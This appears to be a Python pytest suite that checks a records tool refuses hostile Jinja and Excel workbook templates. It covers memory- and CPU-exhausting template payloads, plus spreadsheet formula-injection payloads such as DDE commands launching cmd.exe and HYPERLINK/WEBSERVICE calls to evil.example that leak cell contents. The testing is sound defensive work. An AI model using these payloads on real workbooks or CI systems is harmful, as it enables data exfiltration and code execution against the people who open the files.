"""A pull request that changes ``records/templates/``: Jinja and workbook templates that would
hang CI, exhaust its memory, or reach the staff who open the returns.

Each attack runs lgotp as CI would, as a subprocess with at most 2 GiB of address space and a
60-second timeout; the wanted result is exit 2, one sentence naming the template (and the cell
of a workbook), and a peak resident memory well under a gigabyte.
"""

from __future__ import annotations

import io
import shutil
import zipfile
from pathlib import Path

import pytest
from openpyxl import Workbook, load_workbook
from openpyxl.packaging.relationship import Relationship
from openpyxl.workbook.external_link.external import ExternalBook, ExternalLink
from support.bounded import assert_one_sentence, run_bounded
from support.paths import SAMPLE

PEAK_MIB = 900  # what lgotp may hold at most while refusing an attack (a sample run: ~60)


@pytest.fixture
def records(tmp_path: Path) -> Path:
    root = tmp_path / "records"
    shutil.copytree(SAMPLE, root)
    (root / "templates" / "returns").mkdir(parents=True)
    return root


def workbook_template(path: Path, cells: dict, setup=None) -> Path:
    workbook = Workbook()
    sheet = workbook.active
    sheet.title = "list"
    for coordinate, value in cells.items():
        sheet[coordinate] = value
    if setup is not None:
        setup(workbook)
    workbook.save(path)
    return path


def make_return(records: Path, cells: dict, setup=None, *options: str):
    workbook_template(records / "templates" / "returns" / "list.xlsx", cells, setup)
    out = records.parent / "out.xlsx"
    run = run_bounded(
        ["--records", str(records), "return", "list", "-o", str(out), *options],
        cwd=records.parent,
    )
    return run, out


# --- 2. Jinja templates: time, memory, output -----------------------------------------------------

JINJA_ATTACKS = {
    "huge power": ("{{ (10**50000000) % 7 }}", "10,000 digits"),
    "power of powers": ("{% set n = 10**4000 %}{{ n ** n }}", "10,000 digits"),
    "product of big numbers": ("{% set n = 10**9000 %}{{ n * n * n * n }}", "10,000 digits"),
    "string repetition": ("{{ ('a' * 10**9)|length }}", "characters"),
    "list repetition": ("{{ ([0] * 10**9)|length }}", "characters"),
    "long method result": ("{{ 'a'.ljust(10**8) }}", "characters"),
    "doubling": (
        "{% set a = 'a' * 1000000 %}" + "{% set a = a ~ a %}" * 12 + "{{ a|length }}",
        "memory",
    ),
    "printf width": ("{{ '%0999999999d'|format(1) }}", "memory"),
    "output loop": ("{% for i in range(100000) %}{{ 'x' * 1000 }}{% endfor %}", "characters"),
}


@pytest.mark.parametrize("attack", JINJA_ATTACKS, ids=list(JINJA_ATTACKS))
def test_a_jinja_template_cannot_exhaust_memory(records: Path, attack: str) -> None:
    template, word = JINJA_ATTACKS[attack]
    (records / "templates" / "table.md.j2").write_text(template + "\n", encoding="utf-8")
    run = run_bounded(["--records", str(records), "list", "-f", "md"], cwd=records.parent)
    assert_one_sentence(run, "table.md.j2", word)
    assert run.peak_mib < PEAK_MIB, run.peak_mib
    assert run.stdout == ""


def test_a_jinja_template_that_never_ends_is_stopped(records: Path) -> None:
    """Two nested loops of 100,000 (10^10 steps): stopped after 10 s of processor time."""
    (records / "templates" / "table.md.j2").write_text(
        "{% for i in range(100000) %}{% for j in range(100000) %}{% endfor %}{% endfor %}\n"
    )
    run = run_bounded(["--records", str(records), "list", "-f", "md"], cwd=records.parent)
    assert_one_sentence(run, "table.md.j2", "10 seconds")


def test_the_site_renders_within_the_same_limits(records: Path, tmp_path: Path) -> None:
    (records / "templates" / "report.css.j2").write_text("{{ (10**50000000) % 7 }}\n")
    run = run_bounded(
        ["--records", str(records), "site", "-o", str(tmp_path / "site")], cwd=tmp_path
    )
    assert_one_sentence(run, "report.css.j2", "10,000 digits")
    assert not (tmp_path / "site").exists()


# --- 1. workbook templates: rows, columns, cells --------------------------------------------------


@pytest.mark.parametrize(
    ("cells", "words"),
    [
        # 100,000 rows of 300 columns: 30 million cells (3.7 GB before).
        ({"A1": "{% for t in range(100000) %}{{ t }}", "KN1": "x"}, ["cell A1", "cells"]),
        # Past column XFD (was exit 3, "Invalid column index 18279").
        ({"A1": "{%col for t in range(20000) %}{{ t }}"}, ["cell A1", "columns"]),
        # A 5 KB template whose area is all of Excel's sheet.
        ({"A1": "x", "XFD1048576": "y"}, ["cell XFD1048576", "rows"]),
        # Loops in two rows, each within the limits, together past them.
        (
            {"A1": "{% for t in range(90000) %}{{ t }}", "A2": "{% for t in range(90000) %}x"},
            ["cell A1", "rows"],
        ),
    ],
    ids=["rows-times-columns", "past-XFD", "far-cell", "two-loops"],
)
def test_a_workbook_template_cannot_grow_past_the_limits(records: Path, cells, words) -> None:
    run, out = make_return(records, cells)
    assert_one_sentence(run, "list.xlsx", "sheet 'list'", *words)
    assert run.peak_mib < PEAK_MIB, run.peak_mib
    assert not out.exists()


def test_the_limits_are_options_up_to_excels(records: Path) -> None:
    cells = {"A1": "{% for t in range(2000) %}{{ t }}"}
    run, out = make_return(records, cells, None, "--max-rows", "1000")
    assert_one_sentence(run, "cell A1", "1,000", "--max-rows")
    run, out = make_return(records, cells, None, "--max-rows", "2000000")
    assert_one_sentence(run, "--max-rows", "1,048,576")
    run, out = make_return(records, cells, None, "--max-rows", "3000")
    assert run.returncode == 0, run.stderr
    assert load_workbook(out).active.max_row == 2000


def test_a_workbook_cell_that_never_ends_is_stopped(records: Path) -> None:
    run, out = make_return(
        records, {"A1": "{% for i in range(100000) %}{% for j in range(100000) %}{% endfor %}"}
    )
    assert_one_sentence(run, "list.xlsx", "cell A1", "10 seconds")
    assert not out.exists()


def test_a_workbook_cell_cannot_hold_more_than_excel_allows(records: Path) -> None:
    run, _ = make_return(records, {"A1": "{{ 'a'.ljust(100000) }}"})
    assert_one_sentence(run, "cell A1", "32,767")


# --- 5. formulas and links that reach the staff who open the returns ----------------------------

REACHING = {
    "dde": ("=cmd|' /C calc'!A0", "DDE"),
    "dde-quoted": ("=msexcel|'\\..\\..\\windows\\system32\\cmd.exe /c calc'!''", "DDE"),
    "hyperlink": ('=HYPERLINK("http://evil.example/?leak="&B4)', "HYPERLINK"),
    "hyperlink-lowercase": ('=1+hyperlink("http://evil.example/","x")', "HYPERLINK"),
    "webservice": ('=_xlfn.WEBSERVICE("http://evil.example/?"&A2)', "WEBSERVICE"),
    "image": ('=_xlfn.IMAGE("http://evil.example/pixel.png")', "IMAGE"),
    "rtd": ('=RTD("evil.server",,"x")', "RTD"),
    "add-in": ("=_xludf.STEAL(A1)", "STEAL"),
    "other-file": ("='\\\\evil-share\\share\\[book.xlsx]Sheet1'!A1", "another file"),
    "external-index": ("=[1]Sheet1!A1", "another file"),
    "in-a-loop": ('{% for t in trainees %}=HYPERLINK("http://x/"&"{{ loop.index }}")', "HYPERLINK"),
}


@pytest.mark.parametrize("attack", REACHING, ids=list(REACHING))
def test_a_repository_template_formula_cannot_reach_outside(records: Path, attack: str) -> None:
    formula, word = REACHING[attack]
    run, out = make_return(records, {"A1": "Name", "A2": formula, "B4": "x"})
    assert_one_sentence(run, "list.xlsx", "cell A2", word, "outside the workbook")
    assert not out.exists()


def _defined_name(workbook) -> None:
    from openpyxl.workbook.defined_name import DefinedName

    workbook.defined_names["leak"] = DefinedName("leak", attr_text='WEBSERVICE("http://x/")')


def _hyperlink(workbook) -> None:
    workbook.active["C1"].hyperlink = "file://///evil-share/share/x"


def _validation(workbook) -> None:
    from openpyxl.worksheet.datavalidation import DataValidation

    validation = DataValidation(type="custom", formula1='LEN(WEBSERVICE("http://x/"))>0')
    workbook.active.add_data_validation(validation)
    validation.add("D1")


@pytest.mark.parametrize(
    ("setup", "word"),
    [(_defined_name, "defined name leak"), (_hyperlink, "hyperlink"), (_validation, "D1")],
    ids=["defined-name", "cell-hyperlink", "data-validation"],
)
def test_formulas_outside_cells_cannot_reach_outside(records: Path, setup, word) -> None:
    run, _ = make_return(records, {"A1": "Name"}, setup)
    assert_one_sentence(run, "list.xlsx", word, "outside the workbook")


def test_external_links_are_dropped(records: Path) -> None:
    def external(workbook) -> None:
        link = ExternalLink(externalBook=ExternalBook(id="rId1"))
        link.file_link = Relationship(
            type="externalLinkPath",
            Target="file://///evil-share/share/book.xlsx",
            TargetMode="External",
        )
        workbook._external_links.append(link)

    run, out = make_return(records, {"A1": "Name"}, external)
    assert run.returncode == 0, run.stderr
    with zipfile.ZipFile(out) as archive:
        names = archive.namelist()
        everything = b"".join(archive.read(name) for name in names)
    assert not any(name.startswith("xl/externalLinks/") for name in names), names
    assert b"evil-share" not in everything


@pytest.mark.parametrize(
    "name",
    ['O"Brien', '",WEBSERVICE("http://evil.example/"),"', "=1+1", 'x"' * 300, None, 7],
    ids=["quote", "injection", "formula-like", "long", "none", "number"],
)
def test_record_text_inside_a_formula_is_a_string_literal(tmp_path: Path, name) -> None:
    from openpyxl.formula import Tokenizer

    from lgotp_cli.render.templates import environment
    from lgotp_cli.render.workbook import render_workbook

    template = workbook_template(
        tmp_path / "t.xlsx", {"A1": "{% for t in trainees %}=LEN({{ t.family_name }})"}
    )
    data = render_workbook(
        template, {"trainees": [{"family_name": name}]}, env=environment(()), name="t.xlsx"
    )
    formula = load_workbook(io.BytesIO(data)).active["A1"].value
    text = "" if name is None else str(name)
    if isinstance(name, int):
        assert formula == f"=LEN({name})"
        return
    pieces = [text[at : at + 255] for at in range(0, len(text), 255)] or [""]
    assert formula == "=LEN(" + "&".join('"' + p.replace('"', '""') + '"' for p in pieces) + ")"
    functions = [t.value for t in Tokenizer(formula).items if t.type == "FUNC" and t.value != ")"]
    assert functions == ["LEN("], functions


def test_packaged_templates_keep_their_formulas(tmp_path: Path) -> None:
    """The trusted templates are not checked (their SUMs stay), and still fill as before."""
    out = tmp_path / "r.xlsx"
    run = run_bounded(
        [
            "--records",
            str(SAMPLE),
            "return",
            "reimbursement",
            "--host",
            "232025",
            "-y",
            "2024",
            "-o",
            str(out),
        ],
        cwd=tmp_path,
    )
    assert run.returncode == 0, run.stderr
    formulas = [c.value for r in load_workbook(io.BytesIO(out.read_bytes())).active for c in r]
    assert any(isinstance(f, str) and f.startswith("=SUM(") for f in formulas)
